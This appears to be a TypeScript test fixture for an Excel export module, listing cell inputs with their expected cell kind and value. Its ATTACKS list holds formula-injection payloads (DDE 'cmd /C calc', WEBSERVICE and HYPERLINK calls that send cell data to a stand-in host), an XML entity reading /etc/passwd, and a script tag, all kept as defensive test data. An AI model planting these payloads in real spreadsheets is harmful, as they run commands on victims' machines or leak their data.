import type { CellInput } from "#lib/export/xlsx/sheet.ts";

/** What a cell is given, and what must be in it: the kind of cell, and its value as Excel has it. */
export type CellCase = {
  given: CellInput;
  kind: "text" | "number" | "boolean" | "date" | "empty";
  /** The text, or the number; of a date what is shown. By default what was given. */
  is?: string;
};

const text = (given: string, is = given): CellCase => ({ given, kind: "text", is });
const date = (given: string, is = given): CellCase => ({ given, kind: "date", is });

/** Text that spreadsheets have been tricked with: each stays the text that it is. */
const ATTACKS: readonly string[] = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.test/?"&A1,"Click")',
  '=WEBSERVICE("https://evil.test/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  "'=1+1",
  "#N/A",
  "#REF!",
  "#VALUE!",
  "#DIV/0!",
  "#SPILL!",
  "#GETTING_DATA",
  "#NOT AN ERROR",
  "{=1+1}",
  "https://evil.test/",
  "<script>alert(1)</script>",
  "</t></is></c><c><f>1+1</f></c>",
  "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
  "&amp;&lt;",
  "__proto__",
  "constructor",
  "_x000D_",
  "_x000d_ _X000D_",
  "_x000D_x000D_",
  "_x005F_x000D_",
  "_x_x0041_",
];

/** Text that Excel would make something else of when it is typed. */
const LOOKALIKES: readonly string[] = [
  "007",
  "12345",
  "1.5",
  "1,5",
  "1e5",
  "12345678901234567890",
  "12%",
  "€ 5.00",
  "$5",
  "TRUE",
  "false",
  "null",
  "NaN",
  "1/2",
  "1-2",
  "SEPT2",
  "MARCH1",
  "10:30",
  "27.11.2026",
  "11/27/2026",
  "2026-11",
  "2026-02-30",
  "2026-13-01",
  "1900-02-28",
  "1899-12-31",
  "2026-11-27T24:00",
  "2026-11-27T10:30:15.1234",
  "2026-11-27T10:30:60Z",
  "2026-11-27 and more",
  " 2026-11-27",
];

const PLAIN: readonly string[] = [
  "Müller & Söhne",
  "漢字の表",
  "مرحبا بالعالم",
  "👩‍👩‍👧 🇩🇪",
  "  spaces  ",
  "line one\nline two",
  "tab\there",
  "x".repeat(32_767),
];

export const CELLS: readonly CellCase[] = [
  ...[...ATTACKS, ...LOOKALIKES, ...PLAIN].map((given) => text(given)),
  text("\r=1+1"),
  text("bell \u0007 and NUL \u0000"),
  text("windows\r\nlines", "windows\nlines"),
  text("half \ud83d of a pair", "half \ufffd of a pair"),
  text("not a character \uffff", "not a character \ufffd"),
  ...["2026-11-27", "2024-02-29", "1900-03-01", "9999-12-31"].map((given) => date(given)),
  date("2026-11-27 10:30"),
  date("2026-11-27T10:30", "2026-11-27 10:30"),
  date("2026-11-27T10:30:15", "2026-11-27 10:30:15"),
  date("2026-11-27T23:59:59.999", "2026-11-27 23:59:59.999"),
  date("2026-11-27T10:30:15.250000Z", "2026-11-27 10:30:15.250 UTC"),
  date("2026-11-27T10:30Z", "2026-11-27 10:30 UTC"),
  date("2026-11-27T10:30:00+02:00", "2026-11-27 08:30:00 UTC"),
  date("2026-11-27T22:30:00-0530", "2026-11-28 04:00:00 UTC"),
  ...[0, 1, -1, 1.5, 0.1, 1e-7, 1e21, -1.7976931348623157e308, 5e-324, 999_999_999_999_999].map(
    (given): CellCase => ({ given, kind: "number" }),
  ),
  // More digits than Excel keeps: an id.
  { given: 1_234_567_890_123_456, kind: "text", is: "1234567890123456" },
  // Its last digits were lost when the JSON was read.
  { given: 2 ** 60, kind: "number" },
  { given: Number.NaN, kind: "text", is: "NaN" },
  { given: Number.POSITIVE_INFINITY, kind: "text", is: "Infinity" },
  { given: true, kind: "boolean" },
  { given: false, kind: "boolean" },
  { given: null, kind: "empty" },
  { given: "", kind: "empty" },
];
